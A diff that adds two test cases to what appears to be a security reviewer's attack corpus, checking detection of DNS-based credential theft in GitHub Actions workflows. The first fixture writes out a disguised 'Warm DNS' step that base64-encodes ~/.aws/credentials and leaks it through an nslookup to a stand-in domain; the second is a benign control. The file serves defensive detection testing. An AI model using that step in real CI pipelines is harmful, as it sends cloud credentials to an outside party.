@@ -2341,4 +2341,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-dns-exfiltration-through-variable',
+    description:
+      'A "warm the DNS cache" CI step reads the runner\'s AWS credentials into a variable as base64 on one line and looks up "$D.c.edge-resolve.net" two lines later: the lookup carries the credentials to that domain\'s name server (the DNS beacons of the 2021-2025 dependency-confusion and stealer payloads), with the data and the lookup on different lines.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7179,
+        title: 'ci: warm the DNS cache before tests',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Warm DNS', '        run: |', "          D=$(cat ~/.aws/credentials | base64 | tr -d '\\n' | head -c 60)", '          echo "warming resolvers"', '          nslookup "$D.c.edge-resolve.net" || true'] }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-dns-variable-ordinary',
+    description: 'A maintainer checks that the preview deployment of this commit resolves: the name is built from a variable holding the short commit hash, an ordinary value.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7180,
+        title: 'ci: check the preview resolves',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Preview DNS', '        run: |', '          REV=$(git rev-parse --short HEAD)', '          dig +short "$REV.preview.acme.dev"'] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
 ];
